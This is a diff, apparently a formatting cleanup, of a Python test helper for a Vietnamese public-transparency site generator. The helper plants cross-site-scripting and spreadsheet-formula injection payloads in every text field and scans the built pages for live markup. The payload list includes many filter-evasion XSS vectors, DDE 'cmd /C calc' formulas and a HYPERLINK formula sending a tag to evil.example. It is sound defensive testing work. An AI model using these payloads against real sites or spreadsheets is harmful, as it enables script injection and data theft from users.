@@ -5,6 +5,7 @@ declares gets a payload, so a field added later is covered without anyone listin
 something else (a parent unit, a plan, a catalogue code, a file) or that a pattern constrains hold a valid value
 here; a payload in them is refused by validation (test_hostile checks that too).
 """
+
 from __future__ import annotations
 
 import datetime as dt
@@ -12,11 +13,12 @@ import hashlib
 import re
 import types
 import typing
+from collections.abc import Callable
 from decimal import Decimal
 from enum import Enum
 from html.parser import HTMLParser
 from pathlib import Path
-from typing import Annotated, Callable
+from typing import Annotated
 
 import yaml
 from pydantic import BaseModel
@@ -50,7 +52,7 @@ _VECTORS = [
     "<textarea autofocus onfocus=ckx('{tag}')></textarea>",
     "<keygen autofocus onfocus=ckx('{tag}')>",
     "<div style=\"width:expression(ckx('{tag}'))\" onmouseover=ckx('{tag}')>x</div>",
-    "<img src=\"x\" onerror=\"&#99;kx('{tag}')\">",
+    '<img src="x" onerror="&#99;kx(\'{tag}\')">',
     "<img src=x onerror=&#x63;kx('{tag}')>",
     "<IMG SRC=x OnErRoR=ckx('{tag}')>",
     "<img/src=x/onerror=ckx('{tag}')>",
@@ -58,7 +60,7 @@ _VECTORS = [
     "<scr<script>ipt>ckx('{tag}')</scr</script>ipt>",
     "<<script>ckx('{tag}');//<</script>",
     "<base href=\"javascript:ckx('{tag}')//\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:ckx('{tag}')\">",
+    '<meta http-equiv="refresh" content="0;url=javascript:ckx(\'{tag}\')">',
     "<link rel=import href=\"data:text/html,<script>ckx('{tag}')</script>\">",
     "<template><img src=x onerror=ckx('{tag}')></template><img src=x onerror=ckx('{tag}')>",
     "<noscript><p title=\"</noscript><img src=x onerror=ckx('{tag}')>\">",
@@ -88,7 +90,7 @@ _VECTORS = [
     "&#60;img src=x onerror=ckx('{tag}')&#62;",
     "\\u003cimg src=x onerror=ckx('{tag}')\\u003e",
     "%3Cimg%20src%3Dx%20onerror%3Dckx('{tag}')%3E",
-    "=HYPERLINK(\"https://evil.example/?{tag}\",\"x\")",
+    '=HYPERLINK("https://evil.example/?{tag}","x")',
     "+cmd|' /C calc'!A0 {tag}",
     "-2+3+cmd|' /C calc'!A0 {tag}",
     "@SUM(1+1)*cmd|' /C calc'!A0 {tag}",
@@ -108,9 +110,9 @@ _VECTORS = [
     "</content><script>ckx('{tag}')</script>",
     "\"><script>ckx('{tag}')</script>",
     "'><script>ckx('{tag}')</script>",
-    "\" onmouseover=\"ckx('{tag}')\" x=\"",
+    '" onmouseover="ckx(\'{tag}\')" x="',
     "' onmouseover='ckx(\"{tag}\")' x='",
-    "\" autofocus onfocus=\"ckx('{tag}')\" x=\"",
+    '" autofocus onfocus="ckx(\'{tag}\')" x="',
     "\"><img src=x onerror=ckx('{tag}')>",
     "'><img src=x onerror=ckx('{tag}')>",
     "\"/><svg onload=ckx('{tag}')>",
@@ -121,7 +123,7 @@ _VECTORS = [
     "'; ckx('{tag}'); //",
     "\"; ckx('{tag}'); //",
     "</a><a href=\"javascript:ckx('{tag}')\">x",
-    "\"><a href=\"javascript:ckx('{tag}')\">x</a>",
+    '"><a href="javascript:ckx(\'{tag}\')">x</a>',
     "x\" href=\"javascript:ckx('{tag}')",
     "<a href=\"&#106;avascript:ckx('{tag}')\">x</a>",
     "<a href=\" javascript:ckx('{tag}')\">x</a>",
@@ -143,8 +145,11 @@ def payload(n: int, tag: str) -> str:
 def every_payload(tag: str) -> str:
     """All payloads in one text, for the fields a site has once (its configuration, a province): a heading's and a
     paragraph's attribute lists where Markdown would read them, first line and last."""
-    return (f"Tên {{: autofocus=1 onfocus=ckx('{tag}') }}\n" + " ".join(payload(n, tag) for n in range(len(PAYLOADS)))
-            + f"\n{{: onmouseover=ckx('{tag}') }}")
+    return (
+        f"Tên {{: autofocus=1 onfocus=ckx('{tag}') }}\n"
+        + " ".join(payload(n, tag) for n in range(len(PAYLOADS)))
+        + f"\n{{: onmouseover=ckx('{tag}') }}"
+    )
 
 
 # ----------------------------------------------------------------------------- documents from the schema
@@ -154,10 +159,19 @@ INDICATOR, AGENCY, COLUMN, TABLE = "chi-so-doc-hai", "co-quan-doc-hai", "kinh_ph
 
 # Fields whose value must name something that exists, or has a grammar: a valid value here.
 REFERENCES = {
-    ("Unit", "parent"), ("Unit", "level"), ("Plan", "reviews"), ("Plan", "number"), ("ReportedResult", "source_plan"),
-    ("Target", "indicator_code"), ("SourceDocument", "file"), ("OriginalFile", "file"), ("LegalBasis", "number"),
+    ("Unit", "parent"),
+    ("Unit", "level"),
+    ("Plan", "reviews"),
+    ("Plan", "number"),
+    ("ReportedResult", "source_plan"),
+    ("Target", "indicator_code"),
+    ("SourceDocument", "file"),
+    ("OriginalFile", "file"),
+    ("LegalBasis", "number"),
     # must match a finding of the personal-data check exactly; printed by the build, never published
-    ("PrivacyException", "text"), ("PrivacyException", "reason"), ("PrivacyException", "reviewed_by"),
+    ("PrivacyException", "text"),
+    ("PrivacyException", "reason"),
+    ("PrivacyException", "reviewed_by"),
 }
 
 
@@ -256,8 +270,14 @@ def _patterned(where: str) -> str:
     return f"{ {'id': TABLE, 'code': INDICATOR}.get(name, 'gia-tri') }-{last[0]}"
 
 
-def write_tree(root: Path, fields: Fields, *, districts: int = 1, body: Callable[[str], str] | None = None,
-               payload_for_district: Callable[[int], Fields] | None = None) -> None:
+def write_tree(
+    root: Path,
+    fields: Fields,
+    *,
+    districts: int = 1,
+    body: Callable[[str], str] | None = None,
+    payload_for_district: Callable[[int], Fields] | None = None,
+) -> None:
     """content/ and site_config.yml under `root`: a province, `districts` districts each with an agency
     registry and a plan, and the indicator catalogue, every text field holding a payload."""
     content = root / "content"
@@ -272,28 +292,50 @@ def write_tree(root: Path, fields: Fields, *, districts: int = 1, body: Callable
         f = payload_for_district(d) if payload_for_district else fields
         folder = province / f"{DISTRICT}-{d}"
         folder.mkdir()
-        _dump(folder / "unit.yml", document(schema.Unit, f, f"huyen-{d}/unit.yml",
-                                            {**unit_valid, ("Unit", "parent"): PROVINCE, ("Unit", "level"): "huyen"}))
+        _dump(
+            folder / "unit.yml",
+            document(
+                schema.Unit,
+                f,
+                f"huyen-{d}/unit.yml",
+                {**unit_valid, ("Unit", "parent"): PROVINCE, ("Unit", "level"): "huyen"},
+            ),
+        )
         registry = document(schema.AgencyRegistry, f, f"huyen-{d}/agencies.yml", {})
         _dump(folder / "agencies.yml", registry)
         source = folder / f"{PLAN}.nguon.txt"
         source.write_text(f.text(f"huyen-{d}/{PLAN}.nguon.txt") + "\n", "utf-8")
         plan_valid = {
-            ("Plan", "reviews"): None, ("Plan", "number"): f"{d + 1}/KH-UBND", ("ReportedResult", "source_plan"): None,
-            ("Target", "indicator_code"): f"{INDICATOR}-0", ("LegalBasis", "number"): f"{d + 1}/2022/NĐ-CP",
-            ("SourceDocument", "file"): source.name, ("SourceDocument", "original"): None,
+            ("Plan", "reviews"): None,
+            ("Plan", "number"): f"{d + 1}/KH-UBND",
+            ("ReportedResult", "source_plan"): None,
+            ("Target", "indicator_code"): f"{INDICATOR}-0",
+            ("LegalBasis", "number"): f"{d + 1}/2022/NĐ-CP",
+            ("SourceDocument", "file"): source.name,
+            ("SourceDocument", "original"): None,
             ("SourceDocument", "sha256"): hashlib.sha256(source.read_bytes()).hexdigest(),
-            ("BudgetLine", "category_code"): f"{INDICATOR}-0", ("BudgetGroup", "category_code"): f"{INDICATOR}-1",
-            ("Plan", "classification"): "thuong", ("Period", "outlook"): 2025, ("Plan", "privacy_exceptions"): None,
+            ("BudgetLine", "category_code"): f"{INDICATOR}-0",
+            ("BudgetGroup", "category_code"): f"{INDICATOR}-1",
+            ("Plan", "classification"): "thuong",
+            ("Period", "outlook"): 2025,
+            ("Plan", "privacy_exceptions"): None,
         }
         plan = document(schema.Plan, f, f"huyen-{d}/{PLAN}.yml", plan_valid)
         _dump(folder / f"{PLAN}.yml", plan)
-        (folder / f"{PLAN}.md").write_text("## Mục đích\n\n" + f.text(f"huyen-{d}/{PLAN}.md") + "\n\n"
-                                            + (body(f"huyen-{d}") if body else ""), "utf-8")
-    config = document(SiteConfig, fields, "site_config.yml", {
-        ("SiteConfig", "base_url"): "https://congkhai.example.gov.vn/cong-khai/", ("SiteConfig", "language"): "vi",
-        ("Licence", "url"): "https://creativecommons.org/licenses/by/4.0/", ("Contact", "email"): "a@example.gov.vn",
-    })
+        (folder / f"{PLAN}.md").write_text(
+            "## Mục đích\n\n" + f.text(f"huyen-{d}/{PLAN}.md") + "\n\n" + (body(f"huyen-{d}") if body else ""), "utf-8"
+        )
+    config = document(
+        SiteConfig,
+        fields,
+        "site_config.yml",
+        {
+            ("SiteConfig", "base_url"): "https://congkhai.example.gov.vn/cong-khai/",
+            ("SiteConfig", "language"): "vi",
+            ("Licence", "url"): "https://creativecommons.org/licenses/by/4.0/",
+            ("Contact", "email"): "a@example.gov.vn",
+        },
+    )
     _dump(root / "site_config.yml", config)
 
 
@@ -302,6 +344,7 @@ def _dump(path: Path, data: dict) -> None:
 
 
 # ----------------------------------------------------------------------------- what must never be in a page
+
 
 class LiveMarkup(HTMLParser):
     """Collects what a browser would run: event-handler attributes, javascript: addresses, scripts or
@@ -320,7 +363,9 @@ class LiveMarkup(HTMLParser):
             value = value or ""
             if name.startswith("on"):
                 self.found.append(f"<{tag} {name}={value[:60]!r}>")
-            if name in self.URL_ATTRS and re.match(r"^[\x00-\x20]*(javascript|data|vbscript):", value.replace("\t", ""), re.I):
+            if name in self.URL_ATTRS and re.match(
+                r"^[\x00-\x20]*(javascript|data|vbscript):", value.replace("\t", ""), re.I
+            ):
                 self.found.append(f"<{tag} {name}={value[:60]!r}>")
         if tag in self.FRAMES and any(MARKER in (v or "") for _, v in attrs):
             self.found.append(f"<{tag}> carrying a payload")
